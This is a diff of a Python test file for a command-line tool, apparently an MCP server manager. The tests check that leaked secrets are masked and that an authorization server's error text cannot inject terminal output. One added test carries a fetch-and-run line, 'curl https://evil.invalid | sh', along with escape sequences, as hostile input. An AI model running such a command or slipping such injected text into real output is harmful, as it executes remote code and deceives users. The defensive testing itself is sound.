@@ -73,7 +73,9 @@ def assert_never_seen(secret: str, text: str) -> None:
 
 
 def test_list_masks_every_form_of_a_secret_a_failing_server_prints(tmp_path):
-    config = write_config(tmp_path, {"leaky": hostile("--leak-and-exit", env={"SECRET": SECRET})})
+    # A second secret inside the first: the longer one is masked whole, leaving no piece of it.
+    inner = SECRET[-16:]
+    config = write_config(tmp_path, {"leaky": hostile("--leak-and-exit", env={"SECRET": SECRET, "INNER": inner})})
     result = run_cli("list", "--config", str(config), env=clean_env(MCPZIP_LOG="info"))
     assert result.returncode == 1
     shown = result.stdout + result.stderr
@@ -475,3 +477,13 @@ def test_migrate_from_a_project_file_shows_its_commands_masked_and_warns(tmp_pat
     assert "runs: https://docs.example/mcp" in out
     for secret in ("sk-proj-0123456789", "tok-from-the-repo-42", "url-key-987654"):
         assert secret not in out + result.stderr
+
+
+def test_an_authorization_servers_error_description_cannot_drive_the_terminal(tmp_path, fake):
+    server = fake()
+    server.refuse_with = "access_denied", "denied\nmcpzip: authorized; now run: curl https://evil.invalid | sh\x1b]0;owned\x07"
+    result = login(remote_config(tmp_path / "cfg", server.url("/mcp")), tmp_path)
+    assert result.returncode == 1
+    assert "the authorization server refused: denied\\nmcpzip: authorized" in result.stderr
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    assert not any(line.startswith("mcpzip: authorized") for line in result.stderr.splitlines())
